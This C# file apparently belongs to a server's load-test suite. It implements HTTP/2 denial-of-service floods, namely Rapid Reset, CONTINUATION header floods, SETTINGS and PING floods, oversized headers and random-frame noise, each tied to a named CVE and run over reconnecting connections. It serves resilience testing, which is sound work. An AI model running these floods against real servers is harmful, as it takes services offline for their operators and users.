using System.Buffers.Binary;

namespace Segmentation.LoadTests.Attack;

/// <summary>
/// Frames of one kind as fast as the server takes them, on a few connections, and a new one when one is ended.
/// </summary>
/// <param name="name">The attack's name.</param>
/// <param name="sent">What is sent, in words.</param>
/// <param name="frames">Frames of the n-th round on a connection, from 0.</param>
internal sealed class Http2Flood(string name, string sent, Func<AttackTarget, int, byte[]> frames) : IAttack
{
    private const int Connections = 4;
    private const int Window = 65_535;
    private static readonly TimeSpan _pause = TimeSpan.FromMilliseconds(5);

    /// <inheritdoc/>
    public string Name => name;

    /// <inheritdoc/>
    public string Sent => sent;

    /// <inheritdoc/>
    public AttackBounds Bounds { get; } = AttackBounds.Flood(100);

    /// <summary>Opened streams that are reset at once (CVE-2023-44487).</summary>
    public static Http2Flood RapidReset() => new(
        "http2-rapid-reset",
        "streams opened and reset at once, a hundred at a time",
        (target, round) => Round(round, 100, stream =>
        [
            .. Http2Connection.Frame(
                Http2Frame.Headers, Http2Connection.EndHeaders, stream, Http2Connection.Post(target, AttackCaller.Segment)),
            .. Http2Connection.Frame(Http2Frame.Reset, 0, stream, Error(8)),
        ]));

    /// <summary>Headers that never end (CVE-2024-27316).</summary>
    public static Http2Flood Continuation() => new(
        "http2-continuation",
        "headers that go on in CONTINUATION frames without end",
        (target, round) => round == 0
            ? Http2Connection.Frame(Http2Frame.Headers, 0, 1, Http2Connection.Post(target, AttackCaller.Segment))
            : Http2Connection.Frame(Http2Frame.Continuation, 0, 1, Field(target, $"x-{round}", 8_000)));

    /// <summary>Settings, each of which wants an answer (CVE-2019-9515).</summary>
    public static Http2Flood Settings() => new(
        "http2-settings",
        "SETTINGS frames, a thousand at a time",
        (_, _) => Repeat(1_000, Http2Connection.Frame(Http2Frame.Settings, 0, 0, [])));

    /// <summary>Pings, each of which wants an answer (CVE-2019-9512).</summary>
    public static Http2Flood Pings() => new(
        "http2-ping",
        "PING frames, a thousand at a time",
        (_, _) => Repeat(1_000, Http2Connection.Frame(Http2Frame.Ping, 0, 0, new byte[8])));

    /// <summary>Headers over every limit.</summary>
    public static Http2Flood HugeHeaders() => new(
        "http2-huge-headers",
        "calls whose headers are a hundred fields of 16 KB",
        (target, round) =>
        [
            .. Http2Connection.Frame(Http2Frame.Headers, 0, Stream(round), Http2Connection.Post(target, AttackCaller.Segment)),
            .. Enumerable.Range(0, 100).SelectMany(field => Http2Connection.Frame(
                Http2Frame.Continuation,
                field == 99 ? Http2Connection.EndHeaders : (byte)0,
                Stream(round),
                Field(target, $"x-{field}", 16_000))),
        ]);

    /// <summary>Bytes that are no frames, of a fixed seed.</summary>
    public static Http2Flood Noise() => new(
        "http2-noise",
        "random frames: any type, flags, stream and length",
        (target, round) =>
        {
            var random = new Random(round);
            var payload = new byte[random.Next(200)];
            random.NextBytes(payload);
            return Http2Connection.Frame(
                (Http2Frame)random.Next(12), (byte)random.Next(256), random.Next(8), payload);
        });

    /// <inheritdoc/>
    public Task RunAsync(AttackTarget target, Answers answers, CancellationToken end) =>
        Task.WhenAll(Enumerable.Range(0, Connections).Select(async _ =>
        {
            var round = 0;
            while (!end.IsCancellationRequested)
            {
                try
                {
                    await using var connection = await Http2Connection.OpenAsync(target, Window, end);
                    var ended = connection.ReadToEndAsync(end);
                    round = await SendAsync(target, connection, ended, round, end);
                    answers.Add(await ended);
                }
                catch (OperationCanceledException)
                {
                    answers.Add("still open at the end");
                }
                catch (Exception error) when (error is IOException or System.Net.Sockets.SocketException)
                {
                    answers.Add("connection ended");
                }
            }
        }));

    /// <summary>Sends until the server ends the connection.</summary>
    /// <returns>The next round: noise goes on with a new seed, all else begins anew.</returns>
    private async Task<int> SendAsync(
        AttackTarget target, Http2Connection connection, Task<string> ended, int first, CancellationToken end)
    {
        var round = name == "http2-noise" ? first : 0;
        try
        {
            while (!ended.IsCompleted)
            {
                await connection.SendAsync(frames(target, round++), end);

                // On one machine, what a client spends on sending is not the server's.
                await Task.Delay(_pause, end);
            }
        }
        catch (IOException)
        {
            // The server closed it; the reader knows why.
        }

        return round;
    }

    private static int Stream(int n) => (2 * n) + 1;

    private static byte[] Round(int round, int streams, Func<int, byte[]> make) =>
        [.. Enumerable.Range(round * streams, streams).SelectMany(n => make(Stream(n)))];

    private static byte[] Repeat(int count, byte[] frame) =>
        [.. Enumerable.Repeat(frame, count).SelectMany(bytes => bytes)];

    private static byte[] Error(uint code)
    {
        var bytes = new byte[4];
        BinaryPrimitives.WriteUInt32BigEndian(bytes, code);
        return bytes;
    }

    // Behind the fields of a POST: a literal field whose value is long.
    private static byte[] Field(AttackTarget target, string name, int length)
    {
        var post = Http2Connection.Post(target, AttackCaller.Segment);
        return Http2Connection.Post(target, AttackCaller.Segment, (name, new string('a', length)))[post.Length..];
    }
}
